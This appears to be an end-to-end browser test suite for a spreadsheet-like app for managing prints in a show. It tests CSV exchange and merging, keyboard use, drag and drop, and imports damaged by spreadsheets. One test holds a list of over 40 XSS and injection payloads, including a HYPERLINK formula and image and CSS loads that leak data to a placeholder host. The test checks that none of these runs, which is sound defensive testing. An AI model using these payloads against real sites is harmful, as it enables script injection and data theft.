import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { chooseFile } from './harness/chooseFile.ts';
import { testInSoak } from '../soak.ts';
import { goBehindName, showName } from './harness/behindName.ts';
import { programs, savedText } from '../unit/files/spreadsheets.ts';
import { goByAddress } from './harness/goByAddress.ts';
import { onStage, phone } from './harness/stage.ts';
import { oneStage } from './screens/oneStage.ts';
import { activeCell, cell, paste, press, seen, startTyping, withPrints } from './screens/prints.ts';

const play = oneStage({ isPlanned: false, reducedMotion: 'reduce' });
const onPhone = oneStage({ isPlanned: false, viewport: phone, reducedMotion: 'reduce' });

const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name }).first();

/** The file that a button of the files panel gives. */
async function given(page: Page, name: string): Promise<string> {
	await button(page, 'Files').click();
	const download = page.waitForEvent('download');
	await button(page, name).click();
	const text = await readFile(await (await download).path(), 'utf8');
	await button(page, 'Close').click();
	return text;
}

async function type(page: Page, row: number, key: string, text: string): Promise<void> {
	await cell(page, row, key).click();
	await page.keyboard.type(text);
	await press(page, 'Enter');
}

/** Takes a file in that only adds prints, which needs no answer. */
async function add(page: Page, text: string): Promise<void> {
	await button(page, 'Files').click();
	await chooseFile(page, 'Import rows', 'from the other.csv', text);
	await page.getByText(/rows read$/).waitFor();
	await button(page, 'Close').click();
}

/** Takes a file in that has to be looked at first. */
async function compare(page: Page, text: string, answer?: () => Promise<void>): Promise<void> {
	await button(page, 'Files').click();
	await chooseFile(page, 'Import rows', 'from the other.csv', text);
	await page.getByRole('heading', { name: /^What differs/ }).waitFor();
	await answer?.();
	await button(page, 'Import as chosen').click();
	await page.getByText(/rows read$/).waitFor();
	await button(page, 'Close').click();
}

// In parts: `wholeJob.test.ts`, the last play here, and without a browser `unit/app/compareShow` and `unit/core/merge`.
testInSoak('two devices exchange files three times, with edits on both sides, and end equal', () =>
	onStage({ isKept: false }, (here) =>
		onStage({ isKept: false }, async (there) => {
			const [one, other] = [await here.openShow(), await there.openShow()];
			await withPrints(one, [
				['Low water', '300', '200'],
				['Salt road', '310', '210'],
				['Kiln door', '640', '480'],
				['Fog', '280', '190'],
			]);
			await chooseFile(other, 'Import a file', 'first.csv', await given(one, 'Export CSV'));
			await other.getByRole('grid').waitFor();

			await type(one, 0, 'title', 'Low water at dusk');
			await type(other, 1, 'title', 'Salt road, wet');
			await compare(other, await given(one, 'Export CSV'));
			await compare(one, await given(other, 'Export CSV'));

			// Both have changed the same cell, and one has a print more.
			await type(one, 2, 'picture width', '620');
			await type(other, 2, 'picture width', '630');
			await type(one, 2, 'picture height', '470');
			await type(other, 2, 'picture height', '475');
			await cell(other, 3, 'title').click();
			await button(other, 'Add print').click();
			await type(other, 4, 'title', 'Tar');
			await compare(other, await given(one, 'Export CSV'), async () => {
				// By print, by cell, by print again: the last word counts.
				const side = (what: string, text: RegExp) =>
					other.getByRole('group', { name: `picture ${what} of Kiln door` }).getByRole('radio', { name: text });
				expect(await side('width', /630/).isChecked(), 'yours stay unless theirs are taken').toBe(true);
				await button(other, 'All theirs of Kiln door').click();
				expect(await side('height', /470/).isChecked()).toBe(true);
				await side('width', /630/).check();
				await button(other, 'All yours of Kiln door').click();
				expect(await side('height', /475/).isChecked()).toBe(true);
				await button(other, 'All theirs of Kiln door').click();
			});
			const size = async () => [await seen(other, 2, 'picture width'), await seen(other, 2, 'picture height')];
			expect(await size()).toEqual(['620 typed', '470 typed']);
			await cell(other, 2, 'title').click();
			await press(other, 'Control+z');
			await expect.poll(size, { message: 'one step back' }).toEqual(['630 typed', '475 typed']);
			await press(other, 'Control+y');
			await expect.poll(size).toEqual(['620 typed', '470 typed']);
			await add(one, await given(other, 'Export CSV'));

			// One removes a print, the other changes another.
			await cell(one, 3, 'title').click();
			await button(one, 'More…').click();
			await one.getByRole('menuitem', { name: /^(Delete|Remove)/ }).click();
			await type(other, 0, 'picture height', '205');
			await compare(other, await given(one, 'Export CSV'), async () => {
				// What only here was changed is folded away, and stays.
				const ours = other.getByRole('group', { name: /^picture height of/ }).getByRole('radio', { name: /205/ });
				expect(await ours.isVisible()).toBe(false);
				const aside = other.getByRole('region', { name: 'Changed only here: 1 print' });
				await aside.locator('summary').focus();
				await press(other, 'Enter');
				await ours.waitFor();
				expect(await ours.isChecked()).toBe(true);
				await button(other, 'Use all of theirs').click();
				expect(await ours.isChecked()).toBe(true);
			});
			await compare(one, await given(other, 'Export CSV'));

			const [ours, theirs] = [await given(one, 'Export CSV'), await given(other, 'Export CSV')];
			expect(ours).toBe(theirs);
			for (const word of ['Low water at dusk', 'Salt road, wet', '620', '470', '205', 'Tar'])
				expect(ours).toContain(word);
			for (const word of ['630', '475', 'Fog', ',640,']) expect(ours).not.toContain(word);
		}),
	),
);

/** What runs a script where a text is taken for markup, an address or a formula. `ran()` tells that it did. */
const payloads = [
	...['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror'],
	...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'keygen autofocus onfocus'],
	...['marquee onstart', 'details open ontoggle', 'object data=x onerror', 'iframe src=x onload', 'style onload'],
	...['link rel=stylesheet href=x onerror', 'script src=x onerror', 'svg><animate onbegin', 'math><mtext onclick'],
]
	.map((tag) => `<${tag}=ran()>`)
	.concat(
		'<script>ran()</script>',
		'</script><script>ran()</script>',
		'</title><script>ran()</script>',
		'</textarea><script>ran()</script>',
		'--><script>ran()</script>',
		']]><script>ran()</script>',
		'"><script>ran()</script>',
		"'><script>ran()</script>",
		'" onmouseover="ran()" x="',
		"' onfocus='ran()' autofocus='",
		'<a href="javascript:ran()">a</a>',
		'javascript:ran()',
		'data:text/html,<script>ran()</script>',
		'<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
		'<iframe src="javascript:parent.ran()"></iframe>',
		'<embed src="javascript:ran()">',
		'<form action="javascript:ran()"><button autofocus>b</button></form>',
		'<base href="http://example.invalid/">',
		'<meta http-equiv=refresh content="0;url=http://example.invalid/">',
		'<img src="http://example.invalid/leak.png">',
		'<link rel=prefetch href="http://example.invalid/leak">',
		'<style>@import "http://example.invalid/leak.css"</style>',
		'<p style="background:url(http://example.invalid/leak)">p</p>',
		'{ran()}',
		'${ran()}',
		'{{constructor.constructor("ran()")()}}',
		'=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
		'\u202e<script>ran()</script>',
		'<ſcript>ran()</ſcript>',
		'<svg><style><img src=x onerror=ran()></style></svg>',
		'<noscript><p title="</noscript><img src=x onerror=ran()>">',
	);

test(`no script runs from any of ${payloads.length} cells, titles, headers, file names and shows' names`, () =>
	play(async (page, stage) => {
		expect(payloads.length).toBeGreaterThanOrEqual(40);
		let dialogs = 0;
		page.on('dialog', (dialog) => {
			dialogs++;
			void dialog.dismiss();
		});
		await page.evaluate(() => Object.assign(window, { count: 0, ran: () => (window as unknown as Ran).count++ }));
		const quoted = payloads.map((text) => `"${text.replaceAll('"', '""')}"`);

		// The grid.
		await startTyping(page);
		await press(page, 'Home');
		await paste(page, quoted.map((text) => `1\t${text}\t\t456\t306`).join('\n'));
		await page.locator(`[role=grid][aria-rowcount="${payloads.length + 2}"]`).waitFor();
		expect(await cell(page, 0, 'title').textContent()).toContain(payloads[0]);

		// A CSV: each as a title, a note and a header; its name, too. The comparison shows them.
		const lines = quoted.map((text) => `1,${text},${text},456,306${',x'.repeat(quoted.length)}`);
		const csv = [`number,title,note,picture width,picture height,${quoted.join(',')}`, ...lines].join('\n');
		await button(page, 'Files').click();
		await chooseFile(page, 'Import rows', '<img src=x onerror=ran()>.csv', csv);
		await page.getByRole('heading', { name: /^What differs in “<img/ }).waitFor();
		await button(page, 'Use all of theirs').click();
		await button(page, 'Import as chosen').click();
		await page.getByText(/rows read$/).waitFor();
		await button(page, 'Close').click();

		// A show file: its name, its prints, the columns of others. It stands in the list of shows by its name.
		const rows = payloads.map((text, at) => ({
			id: text,
			typed: { title: text, number: `${at}` },
			extra: { [text]: text },
		}));
		const show = { format: 'evenhang-show', version: 3, name: payloads[0], settings: { unit: 'mm' }, rows };
		await button(page, 'Files').click();
		await chooseFile(page, 'Open a show', '<svg onload=ran()>.json', JSON.stringify(show));
		await button(page, 'Open as a new show').click();
		await page.getByText(/opened$/).waitFor();
		await goBehindName(page, 'Shows');
		await page.getByRole('button', { name: payloads[0]!, exact: true }).waitFor();

		// Paper.
		await page.getByRole('link', { name: 'Bench', exact: true }).click();
		await page.getByRole('link', { name: 'Print on paper' }).click();
		await page.getByRole('checkbox', { name: /Corner templates/ }).waitFor();
		expect((await page.pdf()).length).toBeGreaterThan(1000);

		expect(await page.evaluate(() => (window as unknown as Ran).count)).toBe(0);
		expect(dialogs).toBe(0);
		expect(page.url().startsWith(stage.address), 'the page is where it was').toBe(true);
		await page.close();
	}));

interface Ran {
	count: number;
}

/** Goes from one thing to the next with Tab until it is the one of that name. */
async function tabTo(page: Page, name: string): Promise<void> {
	for (let step = 0; step < 60; step++) {
		await press(page, 'Tab');
		const focused = await page.evaluate(() => {
			const element = document.activeElement;
			return element?.getAttribute('aria-label') ?? element?.textContent.trim();
		});
		if (focused === name) return;
	}
	throw new Error(`Tab does not lead to “${name}”`);
}

const focused = (page: Page) => page.evaluate(() => document.activeElement?.textContent.trim());

test('shows are begun, renamed, put away, deleted, brought back and opened by keyboard alone', () =>
	play(async (page) => {
		await withPrints(page, [['Low water', '300', '200']]);
		await page.keyboard.press('Escape');
		await showName(page).focus();
		await press(page, 'Enter');
		await tabTo(page, 'Shows');
		await press(page, 'Enter');
		await page.getByRole('heading', { name: 'Shows', level: 1 }).waitFor(); // Tab goes on from there
		await tabTo(page, 'New show');
		await press(page, 'Enter');
		await page.getByRole('heading', { name: 'No prints in this show yet' }).waitFor();
		expect(await focused(page)).not.toBe('');
		await showName(page).focus();
		await press(page, 'Enter');
		await tabTo(page, 'Shows');
		await press(page, 'Enter');
		await page.getByRole('heading', { name: 'Shows', level: 1 }).waitFor(); // Tab goes on from there
		await tabTo(page, 'More for New show');
		await press(page, 'Enter');
		await tabTo(page, 'Rename New show');
		await press(page, 'Enter');
		await page.keyboard.type('Harbour room');
		await press(page, 'Enter');
		await expect.poll(() => focused(page)).toBe('Rename');
		await tabTo(page, 'Archive Harbour room');
		await press(page, 'Enter');
		await page.getByText('is in the archive').waitFor();
		await expect.poll(() => focused(page)).toBe('Undo');
		await press(page, 'Enter');
		await expect.poll(() => page.getByRole('heading', { name: 'Archive' }).count()).toBe(0);
		await expect.poll(() => focused(page)).toBe('New show');
		await tabTo(page, 'More for Harbour room');
		await press(page, 'Enter');
		await tabTo(page, 'Delete Harbour room');
		await press(page, 'Enter');
		await page.getByText('is deleted').waitFor();
		await expect.poll(() => focused(page)).toBe('Undo');
		await press(page, 'Enter');
		await page.getByRole('button', { name: 'Harbour room', exact: true }).waitFor();
		// The show from before opens where it was left: in its prints, with the focus there.
		await page.getByRole('listitem').filter({ hasText: '1 print' }).getByRole('button').first().focus();
		await press(page, 'Enter');
		await cell(page, 0, 'title').waitFor();
		await expect.poll(() => activeCell(page)).not.toBe('');
	}));

/** Something that is dragged onto the page or pasted: files by name and text, or a text. */
interface Carried {
	readonly files?: Readonly<Record<string, string>>;
	readonly text?: string;
	readonly isFolder?: boolean;
}

/** Has the page see what the device would send it. @returns whether the page has dealt with it */
const send = (page: Page, type: 'dragover' | 'dragleave' | 'drop' | 'paste', { files, text, isFolder }: Carried) =>
	page.evaluate(
		([type, files, text, isFolder]) => {
			const carried = new DataTransfer();
			for (const [name, content] of Object.entries(files)) carried.items.add(new File([content], name));
			if (text !== '') carried.setData('text/plain', text);
			// No script can drag a folder; one that is dragged is known by this.
			DataTransferItem.prototype.webkitGetAsEntry = () => ({ isDirectory: isFolder }) as unknown as FileSystemEntry;
			const all = { bubbles: true, cancelable: true };
			const event =
				type === 'paste'
					? new ClipboardEvent(type, { clipboardData: carried, ...all })
					: new DragEvent(type, { dataTransfer: carried, ...all });
			return !(document.activeElement ?? document.body).dispatchEvent(event);
		},
		[type, files ?? {}, text ?? '', isFolder ?? false] as const,
	);

// In parts: `unit/pages/decodedOnce`, and the large list in `hostile`.
testInSoak('a large list is decoded and read beside the page, and its columns can be said again without the file', () =>
	play(async (page) => {
		await page.evaluate(() => {
			globalThis.TextDecoder = class extends TextDecoder {
				override decode(...given: Parameters<TextDecoder['decode']>): string {
					const text = super.decode(...given);
					if (text.length > 100_000) document.body.dataset['decoded'] = new Error(text.slice(0, 40)).stack;
					return text;
				}
			};
		});
		const rows = Array.from({ length: 1500 }, (_, at) => `${at + 1},Pier,${'x'.repeat(220)}\n`);
		await send(page, 'drop', { files: { 'large.csv': `number,title,hue\n${rows.join('')}` } });
		await page.getByText('1500 rows read').waitFor();
		expect(await page.getByRole('grid').getAttribute('aria-rowcount')).toBe('1502');
		await page
			.getByText(/hue. is not known/)
			.first()
			.waitFor();
		await button(page, /columns/i).click();
		await page
			.getByText(/large\.csv/)
			.first()
			.waitFor();
		await page.getByLabel('hue').selectOption('note');
		await button(page, 'Import rows').click();
		await page.getByText('1500 rows read').waitFor();
		await expect.poll(() => page.getByText(/hue. is not known/).count()).toBe(0);
		expect(await page.getByRole('grid').getAttribute('aria-rowcount')).toBe('1502');
		expect(await page.locator('body').getAttribute('data-decoded'), 'no large text is decoded on the page').toBeNull();
	}),
);

test('files are dropped and pasted wherever one is; a text, a film, a folder and an empty file change nothing', () =>
	play(async (page) => {
		const list = { files: { 'list.csv': 'title,picture width\nLow water,376\n' } };
		const overlay = page.getByText(/^Drop the file/);
		expect(await send(page, 'dragover', { text: 'a word' }), 'a text is dragged to a field').toBe(false);
		expect(await overlay.count()).toBe(0);
		expect(await send(page, 'dragover', list)).toBe(true);
		await overlay.waitFor();
		await send(page, 'dragleave', list);
		await expect.poll(() => overlay.count()).toBe(0);
		expect(await send(page, 'drop', { text: 'title\nno file\n' })).toBe(false);

		await send(page, 'dragover', list);
		expect(await send(page, 'drop', { files: { ...list.files, 'more.csv': 'title\nMore\n' } })).toBe(true);
		await page.getByText('The other file was not imported').waitFor();
		expect(await overlay.count()).toBe(0);
		expect(await page.getByRole('grid').getAttribute('aria-rowcount')).toBe('3');

		const refused = page.getByRole('alert');
		for (const [carried, says] of [
			[{ files: { 'quay.mp4': '\0\0\0\x18ftypisom' } }, 'it is a picture or a film'],
			[{ files: { 'quay.gif': 'GIF89a' } }, 'its size cannot be read'],
			[{ files: { 'none.csv': '' } }, 'the file is empty'],
			[{ files: { prints: '' }, isFolder: true }, 'It is a folder; drop the file itself.'],
		] as const) {
			await send(page, 'drop', carried);
			await refused.filter({ hasText: says }).waitFor();
		}

		// A copied file brings its name along as text, which must not land in the active cell.
		await cell(page, 0, 'picture height').click();
		await cell(page, 0, 'title').click();
		const copied = { files: { 'quay.csv': 'title,side\nQuay,70\n' }, text: 'quay.csv' };
		expect(await send(page, 'paste', copied)).toBe(true);
		await page.getByText('1 row added').waitFor();
		expect([await cell(page, 0, 'title').textContent(), await cell(page, 1, 'title').textContent()]).toEqual([
			expect.stringContaining('Low water'),
			expect.stringContaining('Quay'),
		]);

		// What its columns hold is said again: undone, it was never there.
		await send(page, 'drop', { files: { 'mole.csv': 'title,Kiste\nMole,45\n' } });
		await button(page, 'Match columns').click();
		await page.getByRole('combobox', { name: 'Kiste' }).selectOption('picture height');
		await button(page, 'Import rows').click();
		await page.getByText('1 row added').waitFor();
		await expect.poll(() => cell(page, 2, 'picture height').textContent()).toContain('45');
		expect(await page.getByRole('grid').getAttribute('aria-rowcount')).toBe('5');

		// At the bench there is no room to ask: one comes to the prints.
		await goByAddress(page, 'cut');
		await send(page, 'drop', { files: { 'name.csv': 'name,width\nPier,45\n' } });
		await page.getByRole('heading', { name: 'What do these columns hold?' }).waitFor();
	}));

test('on a phone, what a list that a spreadsheet has spoiled would remove or replace is on the first screen', () =>
	onPhone(async (page) => {
		await button(page, 'Load the example').click();
		await button(page, 'Close').click();
		const [program] = programs;
		const back = savedText(await given(page, 'Export CSV'), program!, ([head, ...rows]) => {
			const price = head!.indexOf('price');
			const without = rows.filter((_, place) => place !== 5);
			return [head!, ...without.map((cells, place) => (place === 2 ? cells.with(price, '999') : cells))];
		});
		await button(page, 'Files').click();
		await chooseFile(page, 'Import rows', 'back.csv', back);
		const isOnFirstScreen = async (text: string | RegExp) => {
			const box = await page.getByText(text).first().boundingBox();
			return box !== null && box.y >= 0 && box.y + box.height <= phone.height;
		};
		await page.getByText('Removes 1 print: 6 Slipway, low water.').waitFor();
		for (const text of [
			'Removes 1 print: 6 Slipway, low water.',
			'Replaces 1 cell: 3 Net store (price).',
			/^\d+ editions look as if/,
		])
			expect([text, await isOnFirstScreen(text)]).toEqual([text, true]);
		await button(page, 'Keep all of yours').click();
		await page.getByText('Removes nothing, replaces nothing.').waitFor();
		await button(page, 'Back to the suggestions').click();
		await button(page, 'Import as chosen').click();
		await page.getByText('29 rows read').waitFor();
		const after = await given(page, 'Export CSV');
		expect([after.includes(',3/12,'), after.includes('-Mar'), after.includes('Slipway')]).toEqual([true, false, false]);
	}));
